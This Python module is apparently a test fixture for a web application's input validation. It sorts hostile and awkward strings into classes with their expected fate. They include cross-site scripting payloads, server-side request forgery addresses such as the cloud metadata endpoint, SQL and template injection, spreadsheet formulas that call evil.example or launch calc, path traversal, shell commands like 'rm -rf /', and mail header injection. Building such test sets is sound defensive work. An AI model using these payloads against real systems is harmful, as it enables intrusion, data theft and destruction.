"""Input that tries to do harm, by class: what people, robots and broken programs may type.

`MARK` stands in what would become part of a page's markup if the page let it.
"""

from dataclasses import dataclass
from enum import Enum, auto

MARK = "qzx7"


class Fate(Enum):
    """What becomes of a text in a field for one line of text."""

    TAKEN = auto()
    # Taken where it stands in a sentence, refused as a name.
    NO_NAME = auto()
    REFUSED = auto()
    # As good as an empty field.
    NOTHING = auto()


@dataclass(frozen=True, slots=True)
class Class:
    """Texts of one kind.

    Attributes:
        breaks: what they could break.
    """

    name: str
    breaks: str
    texts: tuple[str | bytes, ...]
    fate: Fate = Fate.TAKEN


CLASSES = (
    Class(
        "elements",
        "A page that puts text into its markup runs or shows what a stranger wrote.",
        (
            f"<script>alert('{MARK}')</script>",
            f"<SCRIPT SRC=//evil.example/{MARK}.js></SCRIPT>",
            f"<img src=x onerror={MARK}()>",
            f"<img src='x' onerror='window.{MARK}=1'",
            f"<iframe srcdoc='<script>parent.{MARK}=1</script>'></iframe>",
            f"<{MARK} autofocus tabindex=1 onfocus=alert(1)>",
            f"<details open ontoggle={MARK}()><summary>x</summary></details>",
            f"<input autofocus onfocus={MARK}() name=csrfmiddlewaretoken>",
            f"<form action=//evil.example/{MARK}><button>Send</button></form>",
            f"<meta http-equiv=refresh content='0;url=//evil.example/{MARK}'>",
            f"<base href=//evil.example/{MARK}/>",
            f"<object data=//evil.example/{MARK}></object><embed src=x>",
        ),
    ),
    Class(
        "endings",
        "A text inside a title, a script, a text field or a comment ends it, and markup begins.",
        (
            f"</title><script>{MARK}()</script>",
            f"</textarea><img src=x onerror={MARK}()>",
            f"</script><script>{MARK}()</script>",
            f"</style><style>*{{background:url(//evil.example/{MARK})}}</style>",
            f"--><img src=x onerror={MARK}()><!--",
            f"]]><img src=x onerror={MARK}()><![CDATA[",
            f"</option></select><b {MARK}=1>",
            f"</noscript><{MARK}>",
            f"<!--<script>{MARK}",
            f"<plaintext><{MARK}>",
            f"</h1></main></body></html><{MARK}>",
        ),
    ),
    Class(
        "attributes",
        "A text inside a quoted or bare attribute closes it and adds another.",
        (
            f'" onmouseover="{MARK}()',
            f"' onfocus='{MARK}()' autofocus='",
            f"` onclick=`{MARK}()",
            f'"><svg onload={MARK}()>',
            f"'><{MARK}>",
            f'" style="position:fixed;inset:0;z-index:9" {MARK}="',
            f'" hx-get="/?{MARK}" hx-trigger="load" {MARK}="',
            f'" formaction="javascript:{MARK}()',
            f"&quot; onmouseover=&quot;{MARK}()",
            f"&lt;script&gt;{MARK}()&lt;/script&gt;",
            "&amp;amp;lt;b&amp;amp;gt; &copy &notit; &#x0; &#xD800; &#999999999;",
        ),
    ),
    Class(
        "drawings",
        "Our maps are SVG: text on them could become shapes, links or scripts of their own.",
        (
            f"<svg/onload={MARK}()>",
            f"<svg><script>{MARK}()</script></svg>",
            f"</text><script>{MARK}()</script><text>",
            f"</text></svg><svg><a href='javascript:{MARK}()'><text y=9>x</text></a>",
            f"<svg><animate onbegin={MARK}() attributeName=x dur=1s>",
            f"<svg><use href='data:image/svg+xml,<svg id=x onload={MARK}()>#x'></svg>",
            f"<svg><foreignObject><{MARK}></foreignObject></svg>",
            f"<math><mtext></p><img src=x onerror={MARK}()></mtext></math>",
            f"<math href='javascript:{MARK}()'>click</math>",
        ),
    ),
    Class(
        "styles",
        "A text in a style sheet or a style attribute fetches, hides or covers things.",
        (
            f"expression({MARK}())",
            f"red;background:url(javascript:{MARK}())",
            f"}}*{{display:none}}/*{MARK}",
        ),
    ),
    Class(
        "addresses that run",
        "A link that a reader clicks runs a script or opens a page that poses as ours.",
        (
            f"javascript:{MARK}()",
            f"JaVaScRiPt:{MARK}()",
            f"javascript://example.org/%0a{MARK}()",
            f"java\tscript:{MARK}()",
            f"javascript&colon;{MARK}()",
            f"data:text/html,<script>{MARK}()</script>",
            "data:text/html;base64,PHNjcmlwdD5xeng3KCk8L3NjcmlwdD4=",
            f"vbscript:msgbox({MARK})",
            "ftp://example.org/list",
            "blob:https://example.org/0",
            "mailto:ada@example.org?bcc=all@example.org",
        ),
    ),
    Class(
        "addresses of others",
        "A link with credentials, to a machine inside, or one that only looks like a known host.",
        (
            "https://user:secret@example.org/",
            "https://example.org@evil.example/",
            "https://example.org\\@evil.example/",
            "http://localhost/admin/",
            "http://127.0.0.1:8000/",
            "http://127.1/",
            "http://2130706433/",
            "http://0x7f000001/",
            "http://10.0.0.1/",
            "http://192.168.1.1/router",
            "http://169.254.169.254/latest/meta-data/",
            "http://[::1]/",
            "http://[::ffff:127.0.0.1]/",
            "http://[fe80::1%25eth0]/",
            "http://[fd00::1]/",
            "http://[::1",
            "http://printer.local/",
            "http://intranet/",
            "http://example.org:99999/",
            "http://\u2460\u2461\u2466.\u24ea.\u24ea.\u2460/",
            "http://127\u30020\u30020\u30021/",
            "https://xn--pypal-4ve.com/",
            "https://" + "a." * 50 + "org/",
            "https://" + "a" * 64 + ".org/",
            "https:///evil.example",
            "//evil.example/path",
            "/\\evil.example",
            "https:evil.example",
            "https://example.org/?next=https://evil.example/#@x",
            "https://example.org/..%2f..%2f",
            "https://example.org/<b>%22onclick=",
        ),
    ),
    Class(
        "templates",
        "A text that is rendered twice is worked out as a template, here or in a script.",
        (
            "{{ settings.SECRET_KEY }}",
            "{% load static %}{% include '/etc/passwd' %}",
            "{% debug %}{% endautoescape %}",
            "{{ 7|add:7 }}{{",
            f"${{{MARK}()}}",
            f"`${{alert({MARK})}}`",
            "<%= 7 * 7 %>",
            "{{constructor.constructor('alert(1)')()}}",
            "%(name)s %(password)d %s %d %",
            "{0} {name} {0.__class__.__mro__} {",
        ),
    ),
    Class(
        "databases",
        "A text that becomes part of a query reads or drops what it should not, or matches all.",
        (
            "'; DROP TABLE initiatives_initiative; --",
            "' OR '1'='1",
            "1) UNION SELECT password FROM auth_user--",
            "%' AND 1=0 UNION ALL SELECT 1 --",
            "100%_match%",
            "___",
            "\\%\\_\\",
            "a* OR b* NEAR c",
            '"unclosed phrase',
            "name:x AND -y !z & | <-> :*",
            "x'41' E'\\\\x41' U&'d\\0061t'",
        ),
    ),
    Class(
        "spreadsheets",
        "A cell that begins like this is worked out as a formula by whoever opens an export.",
        (
            "=1+2",
            '=HYPERLINK("http://evil.example/?"&A1,"see")',
            "=cmd|' /C calc'!A0",
            "+32 9 123 45 67",
            "-2+3",
            "-",
            "@SUM(1+9)*cmd|' /C calc'!A0",
            "\t=1+2",
            "'=1+2",
            "\uff1d1+2",
            "#NAME?",
            '"=1+2"',
            ';=1+2;"',
            "a,b;c\td|e",
            '"a","b"',
        ),
    ),
    Class(
        "shells and paths",
        "A text that becomes a file name or part of a command leaves its folder or runs.",
        (
            "../../../../etc/passwd",
            "..\\..\\windows\\win.ini",
            "%2e%2e%2f%2e%2e%2f",
            "C:\\CON",
            "; rm -rf / #",
            "$(touch /tmp/x) `id`",
            "--help",
            "-rf *",
            "() { :;}; echo x",
        ),
    ),
    Class(
        "headers",
        "A line end in a subject, a name or an address adds headers to a mail or an answer.",
        (
            "Ada\r\nBcc: all@example.org",
            "Ada\nSubject: You have won",
            "x\r\n\r\n<html>",
            "x\u2028Bcc: all@example.org",
            "x\u0085Bcc: all@example.org",
            "%0d%0aBcc:%20all@example.org",
            "=?utf-8?q?=0ABcc:_all=40example.org?=",
            '"Ada" <all@example.org>, ',
            "x\n.\nMAIL FROM:<a@example.org>",
        ),
    ),
    Class(
        "scripts and data",
        "A text in JSON or in a script ends its string, or an engine takes it for a line end.",
        (
            '"};alert(1);//',
            '\\"};alert(1)//',
            "\\",
            "\\u003cscript\\u003e",
            "before\u2028after",
            "before\u2029after",
            '{"__proto__": {"polluted": 1}}',
            "__proto__",
            "constructor",
            "[1, 2",
        ),
    ),
    Class(
        "labels of charts",
        "Plotly reads a markup of its own in names, and patterns for numbers and data.",
        (
            "<b>bold</b> <i>slanted</i> <sup>up</sup>",
            f'<a href="javascript:{MARK}()">link</a>',
            '<a href="https://evil.example/" target="_self">link</a>',
            "one<br>two<br/>three",
            "<extra></extra>",
            "<extra>another trace</extra>",
            "%{x} %{customdata[0]}",
            "%{y:.2f} %{x|%Y-%m-%d}",
            f'<span style="color:red" onclick="{MARK}()">red</span>',
            ".3s $,.2%",
            "$\\frac{1}{2}$",
        ),
    ),
    Class(
        "writing that runs the other way",
        "Languages that are written from right to left stand beside ours without turning it.",
        (
            "\u05d2\u05d9\u05e0\u05d4 \u05e7\u05d4\u05d9\u05dc\u05ea\u05d9\u05ea",
            "\u062d\u062f\u064a\u0642\u0629 \u0645\u0634\u062a\u0631\u0643\u0629",
            "Garden \u05d2\u05d9\u05e0\u05d4 (2009)",
            "\u0645\u06a9\u062a\u0628\u0647\u200c\u06cc \u0634\u0647\u0631",
            "\u0723\u0718\u072a\u071d\u071d\u0710",
        ),
    ),
    Class(
        "marks that turn the text",
        "What a reader sees is not what stands there: a name or an address reads backwards.",
        (
            "abc\u202egpj.exe",
            "\u202dnumber\u202c",
            "\u2066isolated\u2069",
            "open \u2068without end",
            "left\u200eright\u200f",
            "letter\u061cmark",
        ),
        Fate.REFUSED,
    ),
    Class(
        "nothing to see inside",
        "Two names look the same and are not, so that a search misses and a duplicate slips in.",
        (
            "Tool\u200blibrary",
            "Tool\u2060library",
            "\ufeffTool library",
            "Tool\u00adlibrary",
            "Tool\u200dlibrary",
            "Tool\u034flibrary",
            "Tool\ufe0flibrary",
        ),
    ),
    Class(
        "nothing to see at all",
        "A name without a visible sign is a link that nobody can find or click.",
        (
            "",
            "\t",
            "\r\n",
            " \n \n ",
            "\u00a0",
            "\u200b",
            "\u200d",
            "\u200c\u200d",
            "\u2060\ufeff",
            "\u3164",
            "\u115f\u1160",
            "\uffa0",
            "\u2800",
            "\u034f",
            "\ufe0f",
            "\u2063\u2064",
            "\U000e0001\U000e0041",
        ),
        Fate.NOTHING,
    ),
    Class(
        "stacks of marks",
        "Marks piled on a letter cover the lines above and below.",
        (
            "Z\u0351\u036b\u0343\u036a\u0302\u0322\u0337a\u0321\u030a\u0489lgo",
            "o" + "\u0301" * 60,
            "\u0e01" + "\u0e49" * 20,
            "a" + "\u20dd\u20de\u20df\u20e0\u20e3",
            "\u0336".join("struck out") + "\u0336" * 5,
        ),
        Fate.REFUSED,
    ),
    Class(
        "marks that belong",
        "The same word in other code points, and scripts that live by their marks.",
        (
            "Cafe\u0301",
            "Caf\u00e9",
            "Vie\u0323\u0302t",
            "\u0938\u093e\u0930\u094d\u0935\u091c\u0928\u093f\u0915 \u092c\u093e\u0917",
            "\u0e2a\u0e27\u0e19\u0e0a\u0e38\u0e21\u0e0a\u0e19",
            "\u212bngstr\u00f6m \ufb01nd",
            "\u1100\u1161\u11a8",
        ),
    ),
    Class(
        "control signs",
        "Terminals, mails, XML and databases act on them or cannot hold them.",
        (
            "null\x00byte",
            "bell\x07",
            "back\x08\x08\x08space",
            "\x1b[2J\x1b[31mred",
            "\x01\x02\x03",
            "next\x84index",
            "csi\x9b31m",
        ),
        Fate.REFUSED,
    ),
    Class(
        "no signs at all",
        "Code points that mean nothing, or something else on each machine.",
        (
            "non\ufffecharacter",
            "\ufdd0",
            "\U0010ffff",
            "private\ue000use",
            "\U00100000",
            "unassigned\u0378",
        ),
        Fate.REFUSED,
    ),
    Class(
        "broken encodings",
        "Bytes that are no text end a request, or come out as something else.",
        (
            b"half \xed\xa0\x80 surrogate",
            b"overlong \xc0\xbcscript\xc0\xbe",
            b"cut off \xe2\x82",
            b"lone \xff\xfe",
            b"Latin-1 caf\xe9",
            b"beyond \xf4\x90\x80\x80",
        ),
    ),
    Class(
        "emoji",
        "One picture is many code points: cut in the middle or counted, it breaks.",
        (
            "\U0001f468\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466",
            "\U0001f3f3\ufe0f\u200d\U0001f308",
            "\U0001f1e7\U0001f1ea\U0001f1f3\U0001f1f1",
            "\U0001f44d\U0001f3fd",
            "1\ufe0f\u20e3",
            "\U0001f331" * 30,
            "\U0001f3f4\U000e0067\U000e0062\U000e0065\U000e006e\U000e0067\U000e007f",
        ),
    ),
    Class(
        "letters that look alike",
        "A name poses as another one.",
        (
            "W\u0456kipedia",
            "\u0410irbnb",
            "Coop\u0435rative",
        ),
        Fate.NO_NAME,
    ),
    Class(
        "letters that grow",
        "Compared, cased or spelt out, one sign becomes many: a column of the database overflows.",
        (
            "\ufdfa" * 40,
            "\ufdfa" * 120,
            "\u0130stanbul",
            "STRA\u1e9eE \u00df",
            "\u0149\u01f0\ufb17",
            "\u1d0f\u1d18\u1d07\u0274",
        ),
    ),
    Class(
        "digits of others",
        "A sign that one function takes for a number is none for the next.",
        (
            "\u0662\u0660\u0660\u0669",
            "\uff12\uff10\uff10\uff19",
            "\u0968\u0966\u0966\u096f",
            "\u00b2\u00bd\u2460",
            "\u4e8c\u3007",
            "\U0001d7d0\U0001d7ce",
        ),
    ),
    Class(
        "numbers",
        "A number that is none, has no end, or does not fit into what counts it.",
        (
            "NaN",
            "-Infinity",
            "1e309",
            "-0",
            "0",
            "1_000",
            "1,5",
            "9223372036854775808",
            "-9223372036854775809",
            "9" * 100,
            "00000000000000000000001",
            "\u221250",
            "+50",
        ),
    ),
    Class(
        "days",
        "A day that was never, or that programs count from.",
        (
            "2023-02-30",
            "0000-00-00",
            "9999-12-31T23:59:60Z",
            "1970-01-01",
            "-0001",
            "now() + interval '1 day'",
        ),
    ),
    Class(
        "words of programs",
        "A word that a program takes for nothing, for truth or for a name of its own.",
        (
            "null",
            "None",
            "undefined",
            "nl",
            "admin",
            "suggest",
            "...",
            "?",
            "#",
        ),
    ),
    Class(
        "long ones that fit",
        "A word without a place to break it pushes the page sideways.",
        (
            "a" * 120,
            "\u6f22" * 120,
            "https://example.org/" + "x" * 100,
            "word " * 23 + "end",
        ),
    ),
    Class(
        "long ones that do not fit",
        "A text beyond every limit fills a column, a page or the memory.",
        (
            "a" * 201,
            "b" * 5_000,
            "\U0001f331" * 1_300,
            "long words " * 20_000,
            ", ".join(f"tag {number}" for number in range(400)),
        ),
        Fate.REFUSED,
    ),
)


def of_fate(*fates: Fate) -> tuple[str | bytes, ...]:
    """Return the texts of the classes with one of these fates."""
    return tuple(text for each in CLASSES if each.fate in fates for text in each.texts)
